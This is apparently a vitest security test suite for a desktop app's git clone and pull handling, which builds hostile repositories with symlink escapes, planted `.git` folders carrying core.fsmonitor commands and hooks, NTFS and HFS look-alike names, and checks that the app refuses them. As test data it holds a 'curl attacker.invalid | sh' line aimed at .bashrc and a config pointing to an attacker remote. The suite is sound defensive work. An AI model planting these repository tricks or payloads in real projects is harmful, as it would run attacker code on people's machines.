/**
 * Repositories built by an attacker with git's plumbing, served by the real git http-backend, then
 * cloned and pulled through the app's IPC (the Host's dispatcher, as both transports use it).
 * What a consultant must be able to rely on: nothing is written outside the clone, no file under
 * `.git/` comes from a tree, the clone or pull fails naming the offending path, and the git CLI
 * run later in a clone left behind runs no command of the attacker's.
 */
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync, lstatSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writeExample } from '../../gitops/cli/commands/init.ts';
import { MemoryCredentialStore } from '../../electron/services/credentials.ts';
import { createHost, type Host } from '../../electron/services/host.ts';
import { startGitServer, type GitServer } from '../support/git-server.ts';
import { Plumbing, type RawEntry } from './plumbing.ts';

let server: GitServer;
let base: string;
let outside: string;
let marker: string;
let example: string;
const hosts: Host[] = [];
let n = 0;

beforeAll(async () => {
  base = mkdtempSync(path.join(os.tmpdir(), 'gantry-hostile-'));
  outside = path.join(base, 'home');
  marker = path.join(base, 'ATTACKER-RAN');
  mkdirSync(path.join(outside, '.ssh'), { recursive: true });
  writeFileSync(path.join(outside, '.bashrc'), '# the consultant\'s own shell settings\n');
  writeFileSync(path.join(outside, '.ssh', 'config'), 'Host *\n');
  mkdirSync(path.join(base, 'clones'));
  example = path.join(base, 'example');
  writeExample(example, 'small');
  server = await startGitServer();
});

afterAll(async () => {
  for (const h of hosts) h.dispose();
  await server?.close();
  rmSync(base, { recursive: true, force: true });
});

/** Every file below `dir` with its content (links as `-> target`), to show nothing changed. */
function snapshot(dir: string): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (rel: string) => {
    for (const e of readdirSync(path.join(dir, rel), { withFileTypes: true })) {
      const p = rel ? `${rel}/${e.name}` : e.name;
      if (e.isDirectory()) walk(p);
      else if (e.isSymbolicLink()) out[p] = '-> link';
      else out[p] = readFileSync(path.join(dir, p), 'utf8');
    }
  };
  walk('');
  return out;
}

function newHost() {
  const host = createHost({ mode: 'browser', version: 't', dataDir: mkdtempSync(path.join(base, 'data-')), credentials: new MemoryCredentialStore() });
  hosts.push(host);
  return host;
}

/** A bare repository on the server whose main holds the example workspace plus `extra` root entries. */
async function hostileRepo(extra: (p: Plumbing) => RawEntry[]): Promise<{ url: string; p: Plumbing }> {
  const name = `hostile-${++n}`;
  const url = await server.createRepo(name, { fromDir: example });
  const p = new Plumbing(path.join(server.root, `${name}.git`));
  const tip = p.rev('main');
  const tree = p.tree([...p.entries(tip), ...extra(p)]);
  p.setBranch('main', p.commit(tree, 'Update tenants', tip));
  return { url, p };
}

/** A `.git` folder as an attacker would plant it: a config that runs a command, a remote, a hook. */
function plantedGitDir(p: Plumbing): string {
  const config = p.blob(`[core]\n\tfsmonitor = touch ${marker}\n\thooksPath = hooks\n[remote "origin"]\n\turl = https://attacker.invalid/steal.git\n`);
  const hook = p.blob(`#!/bin/sh\ntouch ${marker}\n`);
  const hooks = p.tree([['100755', 'pre-commit', hook], ['100755', 'post-checkout', hook]]);
  return p.tree([['100644', 'config', config], ['40000', 'hooks', hooks]]);
}

/** Runs the git CLI as a person would in a clone left behind; the attacker's command must not run. */
function gitCliInClone(dir: string): void {
  const env = { ...process.env, GIT_CONFIG_NOSYSTEM: '1', GIT_CONFIG_GLOBAL: '/dev/null', GIT_AUTHOR_NAME: 'C', GIT_AUTHOR_EMAIL: 'c@example.com', GIT_COMMITTER_NAME: 'C', GIT_COMMITTER_EMAIL: 'c@example.com' };
  spawnSync('git', ['status'], { cwd: dir, env });
  spawnSync('git', ['commit', '--allow-empty', '-m', 'probe'], { cwd: dir, env });
}

function expectNoHarm(clone: string, before: Record<string, string>): void {
  expect(snapshot(outside)).toEqual(before);
  if (existsSync(clone)) {
    const gitdir = path.join(clone, '.git');
    if (existsSync(gitdir)) {
      expect(readFileSync(path.join(gitdir, 'config'), 'utf8')).not.toMatch(/fsmonitor|attacker/);
      expect(existsSync(path.join(gitdir, 'hooks', 'pre-commit'))).toBe(false);
    }
    gitCliInClone(clone);
  }
  expect(existsSync(marker), 'the attacker\'s command ran').toBe(false);
}

const CLONE_CASES: Array<{ name: string; path: string; entries: (p: Plumbing) => RawEntry[] }> = [
  {
    name: 'a symlink to a folder outside and a folder of the same name (duplicate entry)',
    path: 'evil',
    entries: (p) => [
      ['120000', 'evil', p.blob(outside)],
      ['40000', 'evil', p.tree([['100644', '.bashrc', p.blob('curl attacker.invalid | sh\n')]])],
    ],
  },
  {
    name: 'a symlink to a folder outside and an entry whose name contains /',
    path: 'evil/.bashrc',
    entries: (p) => [
      ['120000', 'evil', p.blob(outside)],
      ['100644', 'evil/.bashrc', p.blob('curl attacker.invalid | sh\n')],
    ],
  },
  {
    name: 'a relative symlink ../.. and entries below it',
    path: 'up',
    entries: (p) => [
      ['120000', 'up', p.blob('../..')],
      ['40000', 'up', p.tree([['40000', 'home', p.tree([['100644', '.bashrc', p.blob('curl attacker.invalid | sh\n')]])]])],
    ],
  },
  { name: 'a .git folder (config with core.fsmonitor, hooks)', path: '.git', entries: (p) => [['40000', '.git', plantedGitDir(p)]] },
  { name: 'a .GIT folder', path: '.GIT', entries: (p) => [['40000', '.GIT', plantedGitDir(p)]] },
  { name: 'an NTFS look-alike .git.', path: '.git.', entries: (p) => [['40000', '.git.', plantedGitDir(p)]] },
  { name: 'the NTFS short name git~1', path: 'git~1', entries: (p) => [['40000', 'git~1', plantedGitDir(p)]] },
  { name: 'an HFS look-alike .g\u200cit', path: '.g\u200cit', entries: (p) => [['40000', '.g\u200cit', plantedGitDir(p)]] },
  { name: 'a .git folder one level down', path: 'docs/.git', entries: (p) => [['40000', 'docs', p.tree([['40000', '.git', plantedGitDir(p)]])]] },
  { name: 'a name ..', path: '..', entries: (p) => [['40000', '..', p.tree([['100644', 'escaped', p.blob('x\n')]])]] },
  { name: 'a symlinked .gitmodules', path: '.gitmodules', entries: (p) => [['120000', '.gitmodules', p.blob(path.join(outside, '.ssh', 'config'))]] },
];

describe('cloning a hostile repository through the app', () => {
  it.each(CLONE_CASES)('refuses $name, names the path, and writes nothing outside', async ({ path: bad, entries }) => {
    const { url } = await hostileRepo(entries);
    const host = newHost();
    const before = snapshot(outside);
    const dir = path.join(base, 'clones', `c${n}`);
    const r = await host.dispatch('git:clone', { opId: `clone-${n}-x`, url, dir });
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.error.code).toBe('unsafe-path');
    // The top-level entry an attacker chose is named, quoted, so the person can report it.
    expect(r.error.message).toContain(JSON.stringify(bad).slice(0, -1));
    expect(r.error.message).toMatch(/nothing was written/i);
    // A failed clone removes its folder again.
    expect(existsSync(dir)).toBe(false);
    expectNoHarm(dir, before);
  });
});

describe('pulling a colleague\'s hostile commit through the app', () => {
  it('refuses it before any file changes; the branch, the files and .git stay as they were', async () => {
    const name = `pull-${++n}`;
    const url = await server.createRepo(name, { fromDir: example });
    const p = new Plumbing(path.join(server.root, `${name}.git`));
    const host = newHost();
    const dir = path.join(base, 'clones', name);
    const cloned = await host.dispatch('git:clone', { opId: `clone-${name}`, url, dir });
    expect(cloned.ok, JSON.stringify(cloned)).toBe(true);
    const headBefore = readFileSync(path.join(dir, '.git', 'HEAD'), 'utf8');
    const configBefore = readFileSync(path.join(dir, '.git', 'config'), 'utf8');
    const filesBefore = snapshot(path.join(dir, 'tenants'));
    const outsideBefore = snapshot(outside);

    for (const [i, extra] of [
      (q: Plumbing): RawEntry[] => [['120000', 'evil', q.blob(outside)], ['40000', 'evil', q.tree([['100644', '.bashrc', q.blob('pwned\n')]])]],
      (q: Plumbing): RawEntry[] => [['40000', '.git', plantedGitDir(q)]],
    ].entries()) {
      const tip = p.rev('main');
      const hostile = p.commit(p.tree([...p.entries(tip), ...extra(p)]), `colleague ${i}`, tip);
      p.setBranch('main', hostile);
      const r = await host.dispatch('git:pull', { opId: `pull-${name}-${i}` });
      expect(r.ok).toBe(false);
      if (r.ok) continue;
      expect(r.error.code).toBe('unsafe-path');
      expect(r.error.message).toMatch(i === 0 ? /"evil"/ : /"\.git"/);
      // The remote-tracking branch is put back: a later pull meets the same refusal, not a half state.
      const tracking = spawnSync('git', ['rev-parse', 'refs/remotes/origin/main'], { cwd: dir, encoding: 'utf8' }).stdout.trim();
      expect(tracking).not.toBe(hostile);
      p.setBranch('main', tip);
    }
    expect(readFileSync(path.join(dir, '.git', 'HEAD'), 'utf8')).toBe(headBefore);
    expect(readFileSync(path.join(dir, '.git', 'config'), 'utf8')).toBe(configBefore);
    expect(snapshot(path.join(dir, 'tenants'))).toEqual(filesBefore);
    expect(existsSync(path.join(dir, 'evil'))).toBe(false);
    expect(spawnSync('git', ['status', '--porcelain'], { cwd: dir, encoding: 'utf8' }).stdout).toBe('');
    expectNoHarm(dir, outsideBefore);
  });
});

describe('a repository whose tenants/ and rendered/ are symlinks (git allows those)', () => {
  let dir: string;
  let host: Host;
  let outsideBefore: Record<string, string>;
  const call = async (channel: string, input: unknown) => host.dispatch(channel, input);

  beforeAll(async () => {
    // The attacker's workspace: tenants/ and rendered/ point at folders in the consultant's home.
    const src = path.join(base, 'symlinked-src');
    writeExample(src, 'small');
    mkdirSync(path.join(outside, 'projects'), { recursive: true });
    renameSync(path.join(src, 'tenants'), path.join(outside, 'projects', 'tenants'));
    rmSync(path.join(src, 'rendered'), { recursive: true });
    mkdirSync(path.join(outside, 'projects', 'rendered'));
    writeFileSync(path.join(outside, 'projects', 'rendered', 'keep.txt'), 'mine\n');
    symlinkSync(path.join(outside, 'projects', 'tenants'), path.join(src, 'tenants'));
    symlinkSync(path.join(outside, 'projects', 'rendered'), path.join(src, 'rendered'));
    const url = await server.createRepo(`symlinked-${++n}`, { fromDir: src });
    host = newHost();
    dir = path.join(base, 'clones', `symlinked-${n}`);
    outsideBefore = snapshot(outside);
    const r = await call('git:clone', { opId: `clone-symlinked-${n}`, url, dir });
    expect(r.ok, JSON.stringify(r)).toBe(true);
  });

  it('clones it (the links are ordinary git symlinks) but reads no spec through them, and says why', async () => {
    expect(lstatSync(path.join(dir, 'tenants')).isSymbolicLink()).toBe(true);
    const r = await call('workspace:snapshot', {});
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    const snap = r.value as { rows: { tenants: unknown[] }; findings: Array<{ code: string; file: string; message: string }> };
    expect(snap.rows.tenants).toEqual([]);
    expect(snap.findings).toContainEqual(expect.objectContaining({ code: 'path.symlink', file: 'tenants' }));
    expect(snap.findings).toContainEqual(expect.objectContaining({ code: 'path.symlink', file: 'rendered' }));
    expect(snap.findings.find((f) => f.file === 'tenants')!.message).toMatch(/symbolic link.*Replace it with a real folder/);
  });

  it('refuses every write into them: save, plan apply, commit; nothing lands outside', async () => {
    const tenant = readFileSync(path.join(example, 'tenants', 'acme.yaml'), 'utf8').replaceAll('acme', 'mallory');
    const save = await call('workspace:writeFile', { file: 'tenants/mallory.yaml', content: tenant });
    expect(save).toMatchObject({ ok: false });
    if (!save.ok) expect(save.error.message).toMatch(/tenants, which is a symbolic link/);
    const plan = await call('plan:apply', { files: [{ path: 'tenants/mallory.yaml', action: 'create', content: tenant }] });
    expect(plan).toMatchObject({ ok: false });
    if (!plan.ok) expect(plan.error.message).toMatch(/symbolic link/);
    const commit = await call('git:commit', { message: 'render and commit' });
    expect(commit).toMatchObject({ ok: false, error: { code: 'invalid-workspace' } });
    if (!commit.ok) expect(commit.error.message).toMatch(/rendered is a symbolic link/);
    expect(snapshot(outside)).toEqual(outsideBefore);
    expectNoHarm(dir, outsideBefore);
  });

  it('refuses a diff of .git/config or through the symlinked folder', async () => {
    expect(await call('git:diff', { path: '.git/config' })).toMatchObject({ ok: false, error: { code: 'unsafe-path' } });
    const through = await call('git:diff', { path: 'tenants/acme.yaml' });
    expect(through).toMatchObject({ ok: false, error: { code: 'unsafe-path' } });
    if (!through.ok) expect(through.error.message).toMatch(/tenants, which is a symbolic link/);
  });
});
